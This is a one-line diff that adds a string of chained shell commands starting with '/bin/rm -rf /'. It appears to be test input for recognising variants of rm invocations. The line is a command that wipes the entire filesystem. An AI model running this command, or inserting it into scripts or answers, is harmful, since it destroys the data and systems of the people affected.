@@ -1,0 +1,1 @@
+/bin/rm -rf /; ./rm; ../bin/RM x
